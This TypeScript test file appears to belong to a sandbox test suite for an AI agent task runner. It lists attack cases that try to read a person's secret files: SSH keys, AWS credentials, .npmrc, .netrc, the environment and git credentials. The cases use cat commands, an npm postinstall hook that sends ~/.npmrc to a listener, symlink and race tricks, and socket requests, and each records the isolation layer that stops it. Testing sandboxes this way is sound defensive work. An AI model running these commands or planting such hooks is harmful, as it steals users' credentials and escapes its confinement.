import { type Attack, EDIT, LEAK } from '../attack.ts';
import { SECRET_FILES } from '../world.ts';
import { noLeak } from './held.ts';

/** Puts what a command prints into the change, when it prints anything. */
const leak = (command: string): string => `${EDIT}; { ${command}; } >> ${LEAK} 2>/dev/null; [ -s ${LEAK} ] || rm -f ${LEAK}; :`; // prettier-ignore

/** What speaks with a server and prints its answer. */
const ask = (address: string): string =>
  `node -e 'const s = require("net").connect(${address}); s.on("error", () => {}); s.on("data", (d) => process.stdout.write(d)); s.write("GET /secrets HTTP/1.0\\r\\n\\r\\n")'`;

const FILES: readonly Attack[] = SECRET_FILES.map((file) => ({
  name: `the agent reads ~/${file}`,
  together: 'secrets',
  outcome: "stopped by the room: the person's home is not there",
  needs: 'room',
  run: ({ home }) => leak(`cat ${home}/${file}`),
  held: noLeak,
}));

/** What a program of the task must not read. */
export const SECRETS: readonly Attack[] = [
  ...FILES,
  {
    name: 'an install command prints ~/.ssh/id_ed25519',
    outcome: "stopped by the room: the person's home is not there",
    needs: 'room',
    files: {
      '.bgtask.yaml': ({ home }) => JSON.stringify({ install: `cat ${home}/.ssh/id_ed25519 || :`, format: [], checks: [{ name: 'test', kind: 'test', run: 'sh scripts/test.sh' }] }),
    },
  },
  {
    name: 'a postinstall script of npm sends ~/.npmrc to a listener',
    outcome: "stopped by the room: the person's home is not there",
    needs: 'room',
    files: {
      '.bgtask.yaml': undefined,
      'package.json': ({ home, listener }) => JSON.stringify({ name: 'sums', version: '1.0.0', scripts: { postinstall: `node -e 'require("net").connect(${listener.port}, "127.0.0.1").on("error", () => {}).end(require("fs").readFileSync("${home}/.npmrc"))' || :`, test: 'sh scripts/test.sh' } }),
      'package-lock.json': '{"name":"sums","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"sums","version":"1.0.0"}}}',
    },
  },
  {
    name: 'a check prints ~/.aws/credentials',
    outcome: "stopped by the room: the person's home is not there",
    needs: 'room',
    run: ({ home }) => `${EDIT}; echo 'cat ${home}/.aws/credentials 2>/dev/null; :' >> scripts/test.sh`,
  },
  {
    name: 'a link to ~/.ssh in the change',
    outcome: 'stopped by the snapshot: a link stays a link',
    run: ({ home }) => `${EDIT}; ln -s ${home}/.ssh/id_ed25519 ${LEAK}; ln -s ${home}/.ssh keys`,
  },
  {
    name: 'a tracked folder becomes a link to ~/.ssh',
    outcome: 'stopped by the snapshot: it looks behind no link',
    files: { 'keys/id_ed25519': 'none\n' },
    run: ({ home }) => `${EDIT}; rm -rf keys; ln -s ${home}/.ssh keys`,
  },
  {
    name: 'a hard link to a file of the person',
    together: 'secrets',
    outcome: "stopped by the room: the person's home is not there",
    needs: 'room',
    run: ({ home }) => `${EDIT}; ln ${home}/.netrc ${LEAK} 2>/dev/null; :`,
    held: noLeak,
  },
  {
    name: 'a folder and a link to ~/.ssh take turns while the snapshot is made',
    outcome: 'stopped by the room: its processes end with it',
    needs: 'room',
    files: { 'keys/id_ed25519': 'none\n' },
    run: ({ home, mark }) => `${EDIT}; ln -s ${home}/.ssh keys.link; env -i setsid sh -c 'while :; do mv keys keys.real; cp -P keys.link keys; rm keys; mv keys.real keys; echo x > keys/id_ed25519; : ${mark}; done' >/dev/null 2>&1 & :`,
  },
  {
    name: "package.json is a link to a secret, whose first words an error would quote",
    outcome: 'stopped by the reader of repositories: it follows no link',
    run: ({ home }) => `${EDIT}; ln -s ${home}/.docker/config.json package.json; ln -s ${home}/.netrc pyproject.toml; ln -s ${home}/.kube/config Makefile`,
  },
  {
    name: 'a report of tests is a link to a secret',
    outcome: 'stopped by the reader of reports: it follows no link',
    files: { '.bgtask.yaml': JSON.stringify({ format: [], checks: [{ name: 'test', kind: 'test', run: 'sh scripts/test.sh --junitxml=report.xml' }] }) },
    run: ({ home }) => `${EDIT}; ln -s ${home}/.netrc report.xml`,
  },
  {
    name: "the socket of Docker's daemon",
    together: 'secrets',
    outcome: 'stopped by the room: sockets of the person are not there',
    needs: 'room',
    run: ({ listener }) => leak(ask(`"${listener.file}"`)),
    held: noLeak,
  },
  {
    name: 'a server on loopback of this machine',
    together: 'secrets',
    outcome: 'stopped by the room: it has a network of its own',
    needs: 'room',
    held: noLeak,
    run: ({ listener }) => leak(ask(`${listener.port}, "127.0.0.1"`)),
  },
  {
    name: 'an abstract socket of this machine',
    together: 'secrets',
    outcome: 'stopped by the room: it has a network of its own',
    needs: 'room',
    held: noLeak,
    run: ({ listener }) => leak(ask(`"\\\\0${listener.abstract}"`)),
  },
  {
    name: 'the environment of the agent',
    together: 'secrets',
    outcome: 'stopped by the environment: it is made from a list of names',
    run: leak('env | grep -e canary- -e SSH_AUTH_SOCK -e DOCKER_HOST'),
    held: noLeak,
  },
  {
    name: 'git asked for a credential',
    together: 'secrets',
    outcome: "stopped by the environment: git finds no helper and none of the person's files",
    before: ({ home, machine }) => machine.git(home, 'config', '--file', `${home}/.gitconfig`, 'credential.helper', 'store').then(() => undefined),
    run: leak(`printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill`),
    held: noLeak,
  },
  {
    name: 'the settings and the log of the supervisor',
    together: 'secrets',
    outcome: 'stopped by the room: the state folder is not there',
    needs: 'room',
    before: async ({ machine, state, canaries }) => { await machine.bgtask('list'); const { appendFile, mkdir } = await import('node:fs/promises'); await mkdir(`${state}/logs`, { recursive: true }); await appendFile(`${state}/logs/earlier.log`, `${canaries.other}\n`); },
    run: ({ state }) => leak(`cat ${state}/logs/earlier.log; cat ${state}/lease* ${state}/supervisor.log`),
    held: noLeak,
  },
  {
    name: "another task's input and log",
    together: 'secrets',
    outcome: 'stopped by the room: other tasks are not there',
    needs: 'room',
    before: async ({ state, canaries }) => { const { mkdir, writeFile } = await import('node:fs/promises'); await mkdir(`${state}/other`, { recursive: true }); await writeFile(`${state}/other/input.json`, JSON.stringify({ prompt: canaries.other })); },
    run: ({ state }) => leak(`cat ${state}/other/input.json; cat ../../input.json ../../work.log`),
    held: noLeak,
  },
]; // prettier-ignore
